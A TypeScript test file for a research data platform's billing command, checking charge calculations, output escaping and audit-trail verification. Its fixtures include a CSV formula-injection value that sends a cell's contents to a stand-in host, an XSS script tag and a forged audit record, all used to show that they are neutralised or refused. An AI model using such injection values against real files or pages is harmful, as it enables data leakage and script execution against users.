/**
 * What an organisation receives: the CSV (formula-neutralised, one line per charge and
 * per query) and the HTML page, and `sde bill` end to end over a local audit trail.
 */
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { closeAllAuditWriters, LocalAuditWriter, localAuditEnv, projectQueryEvent } from '../../lib/audit/local-audit-writer';
import type { BillingInputs } from '../../lib/billing/inputs';
import { parseMonth } from '../../lib/billing/month';
import { renderStatementCsv, renderSummaryCsv } from '../../lib/billing/render-csv';
import { renderStatementHtml } from '../../lib/billing/render-html';
import { buildStatement } from '../../lib/billing/statement';
import { runCli } from '../../lib/cli/cli';
import { loadConfig } from '../../lib/config/loader';
import { EXAMPLE_CONFIG, TEST_TODAY } from '../helpers/config-fixture';
import { slipRecordIn } from '../audit/helpers/tamper';

const TB = 1_000_000_000_000;
const inputs: BillingInputs = {
  platformName: 'onelondon-sde',
  displayName: 'OneLondon SDE',
  pricing: {
    currency: 'GBP',
    awsUsdPerTbScanned: 5,
    tiers: { charity: { label: 'Charity research', accessFeePerMonth: 150, pricePerTbScanned: 5, multiplier: 1.25 } },
  },
  projects: [],
};
const project = {
  id: 'evil-charity',
  title: '<script>alert(1)</script> study',
  status: 'active' as const,
  // A name a spreadsheet would run as a formula.
  organisation: { name: '=HYPERLINK("http://x.example/?"&A1,"Click")', type: 'charity', tier: 'charity' },
  period: { start: '2026-11-17', end: '2027-11-16' },
  approvalReference: 'DAC-9',
  monthlyBudgetUsd: 1,
  workgroup: 'wg',
};
const statement = buildStatement({
  inputs,
  project,
  month: parseMonth('2026-11')!,
  usage: [{ projectId: 'evil-charity', workgroup: 'wg', queryId: 'qe-1', time: '2026-11-18T08:00:00Z', bytesScanned: 0.4 * TB }],
});

describe('CSV', () => {
  const csv = renderStatementCsv(statement);
  const lines = csv.trimEnd().split('\r\n');

  test('one line per charge, per query, the total, the budget and each warning', () => {
    expect(lines[0]).toBe('statement,organisation,project,month,line,description,query_id,time,bytes_scanned,bytes_billed,amount,currency');
    expect(lines.map((l) => l.split(',').find((c) => ['charge', 'usage', 'total', 'budget', 'warning', 'note'].includes(c)))).toEqual([
      undefined,
      'charge',
      'charge',
      'usage',
      'total',
      'budget',
      'warning',
      'note',
    ]);
    // fee £150 × 14/30 = £70.00; scan 0.4 TB × £5 × 1.25 = £2.50; total £72.50
    expect(lines[1]).toMatch(/,70\.00,GBP$/);
    expect(lines[2]).toMatch(/,2\.50,GBP$/);
    expect(lines[3]).toMatch(/,usage,query,qe-1,2026-11-18T08:00:00Z,400000000000,400000000000,,$/);
    expect(lines[4]).toMatch(/,total,Total for 2026-11,,,400000000000,400000000000,72\.50,GBP$/);
    // budget $1; 0.4 TB × $5 = $2.00 estimated AWS spend: reached
    expect(lines[5]).toMatch(/AWS spend 2\.00 USD .*: reached/);
    expect(lines[6]).toMatch(/Budget reached/);
  });

  test('a formula in a config value is neutralised in every cell', () => {
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(lines[1].startsWith(`2026-11-evil-charity,"'=HYPERLINK(""http://x.example/?""&A1,""Click"")"`)).toBe(true);
    expect(renderSummaryCsv([statement])).toMatch(/^2026-11-evil-charity,"'=HYPERLINK/m);
  });
});

describe('HTML', () => {
  const html = renderStatementHtml(statement);
  test('carries the amounts, the usage and the warning, with text escaped', () => {
    expect(html).toContain('<td><strong>£72.50</strong></td>');
    expect(html).toContain('<td>£70.00</td>');
    expect(html).toContain('<code>qe-1</code>');
    expect(html).toMatch(/<h2 id="warnings">Warnings<\/h2>[\s\S]*Budget reached/);
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt; study');
    expect(html).not.toContain('<script>');
    expect(html).toContain('<caption>Charges for 2026-11, in GBP</caption>');
  });
});

describe('sde bill', () => {
  const workdir = fs.mkdtempSync(path.join(os.tmpdir(), 'sde-bill-'));
  const out = path.join(workdir, 'bills-out');
  afterAll(() => {
    closeAllAuditWriters();
    fs.rmSync(workdir, { recursive: true, force: true });
  });

  async function run(...argv: string[]) {
    const lines: string[] = [];
    const errs: string[] = [];
    const code = await runCli(argv, { out: (l) => lines.push(l), err: (l) => errs.push(l) });
    return { code, out: lines.join('\n'), err: errs.join('\n') };
  }

  test('bills the example projects from the local audit trail', async () => {
    const config = loadConfig(EXAMPLE_CONFIG, { today: TEST_TODAY });
    const env = localAuditEnv(config);
    const writer = LocalAuditWriter.open(workdir, env);
    writer.append(
      projectQueryEvent(env, {
        projectId: 'ucl-multimorbidity',
        sessionName: 'jane.doe',
        queryString: 'SELECT 1',
        bytesScanned: 2 * TB,
        time: new Date('2026-11-05T10:00:00Z'),
        queryExecutionId: 'qe-ucl',
      }),
    );
    writer.append(
      projectQueryEvent(env, {
        projectId: 'ucl-multimorbidity',
        sessionName: 'jane.doe',
        queryString: 'SELECT x',
        refused: { message: 'no' },
        time: new Date('2026-11-05T10:01:00Z'),
      }),
    );

    const r = await run('bill', '--month', '2026-11', '--config', EXAMPLE_CONFIG, '--workdir', workdir, '--out', out, '--today', TEST_TODAY);
    expect(r.err).toBe('');
    expect(r.code).toBe(0);
    // Active in November 2026: ncl-winter-planning (nhs), ucl-multimorbidity (academic), medisight-prescribing (commercial, from 1 Oct)
    expect(fs.readdirSync(path.join(out, '2026-11')).sort()).toEqual([
      'medisight-prescribing.csv',
      'medisight-prescribing.html',
      'ncl-winter-planning.csv',
      'ncl-winter-planning.html',
      'statements.csv',
      'ucl-multimorbidity.csv',
      'ucl-multimorbidity.html',
    ]);
    // ucl: £250 + 2 TB × £5 × 1.5 = £265.00
    expect(r.out).toMatch(/2026-11-ucl-multimorbidity: University College London, £265\.00 \(1 query\)/);
    // medisight: £2000, no queries; ncl: £0
    expect(r.out).toMatch(/2026-11-medisight-prescribing: MediSight Analytics Ltd, £2,000\.00 \(0 queries\)/);
    expect(r.out).toMatch(/2026-11-ncl-winter-planning: .*, £0\.00/);
    const all = fs
      .readdirSync(path.join(out, '2026-11'))
      .map((f) => fs.readFileSync(path.join(out, '2026-11', f), 'utf8'))
      .join('\n');
    // statements go to organisations: no researcher session names or ARNs anywhere
    expect(all).not.toMatch(/jane\.doe|arn:aws:iam/);
  });

  test('a bill from a trail with one forged record is refused; with --allow-unverified every statement says UNVERIFIED first', async () => {
    const forgedWorkdir = fs.mkdtempSync(path.join(os.tmpdir(), 'sde-bill-forged-'));
    try {
      fs.cpSync(workdir, forgedWorkdir, { recursive: true, filter: (src) => !src.includes('bills-out') });
      // A forged query, written straight into a record file as anyone able to write the folder could.
      slipRecordIn(path.join(forgedWorkdir, 'audit'), (records) => ({
        ...records[0],
        eventID: '00000000-0000-4000-8000-000000000001',
        additionalEventData: { ...records[0].additionalEventData, sdeBytesScanned: 50 * TB },
      }));
      const forgedOut = path.join(forgedWorkdir, 'bills');
      const argv = ['bill', '--month', '2026-11', '--config', EXAMPLE_CONFIG, '--workdir', forgedWorkdir, '--out', forgedOut, '--today', TEST_TODAY];

      const refused = await run(...argv);
      expect(refused.code).toBe(1);
      expect(refused.err).toMatch(/the audit trail did not verify, so nothing is published from it \(1 problem\)/);
      expect(refused.err).toMatch(/unchained: record 00000000-0000-4000-8000-000000000001/);
      expect(fs.existsSync(forgedOut)).toBe(false);

      const marked = await run(...argv, '--allow-unverified');
      expect(marked.code).toBe(0);
      expect(marked.out).toMatch(/^UNVERIFIED: built from 3 audit records that did not verify/m);
      const csv = fs.readFileSync(path.join(forgedOut, '2026-11', 'ucl-multimorbidity.csv'), 'utf8');
      const html = fs.readFileSync(path.join(forgedOut, '2026-11', 'ucl-multimorbidity.html'), 'utf8');
      expect(csv.split('\r\n').find((l) => l.includes(',warning,'))).toMatch(/UNVERIFIED: built from 3 audit records/);
      expect(html).toMatch(/<h2 id="warnings">Warnings<\/h2><ul>\s*<li><strong>UNVERIFIED: built from 3 audit records/);
    } finally {
      fs.rmSync(forgedWorkdir, { recursive: true, force: true });
    }
  });

  test('a verified bill says what it was built from', async () => {
    const r = await run(
      'bill',
      '--month',
      '2026-11',
      '--project',
      'ucl-multimorbidity',
      '--config',
      EXAMPLE_CONFIG,
      '--workdir',
      workdir,
      '--out',
      out,
      '--today',
      TEST_TODAY,
    );
    expect(r.code).toBe(0);
    expect(r.out).toMatch(
      /^Built from 2 audit records verified on \d{4}-\d{2}-\d{2} at \d{2}:\d{2} UTC against the hash chain and its signed head \(entry 2, signed /m,
    );
    expect(fs.readFileSync(path.join(out, '2026-11', 'ucl-multimorbidity.csv'), 'utf8')).toMatch(/,note,"Built from 2 audit records verified on/);
  });

  test('one project, and usage errors', async () => {
    const r = await run(
      'bill',
      '--month',
      '2024-03',
      '--project',
      'kcl-covid-recovery',
      '--config',
      EXAMPLE_CONFIG,
      '--workdir',
      workdir,
      '--out',
      out,
      '--today',
      TEST_TODAY,
    );
    expect(r.code).toBe(0);
    // academic, whole month inside 2024-02-01..2025-07-31: £250.00, no queries
    expect(r.out).toMatch(/2024-03-kcl-covid-recovery: King's College London, £250\.00 \(0 queries\)/);
    expect((await run('bill', '--config', EXAMPLE_CONFIG)).code).toBe(2);
    const bad = await run('bill', '--month', '2026-13', '--config', EXAMPLE_CONFIG);
    expect(bad.code).toBe(2);
    expect(bad.err).toMatch(/--month must be a month written YYYY-MM/);
    const unknown = await run('bill', '--month', '2026-11', '--project', 'nope', '--config', EXAMPLE_CONFIG, '--today', TEST_TODAY);
    expect(unknown.code).toBe(2);
    expect(unknown.err).toMatch(/no project "nope"/);
  });
});
